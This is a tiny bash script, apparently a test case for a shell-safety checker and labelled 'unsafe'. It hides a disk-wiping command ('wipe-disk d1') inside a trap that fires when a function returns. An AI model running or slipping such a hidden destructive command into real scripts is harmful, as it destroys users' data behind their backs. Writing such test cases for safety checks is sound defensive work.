#!/bin/bash
# unsafe: in some world
f() { trap 'wipe-disk d1' RETURN; true; }
f
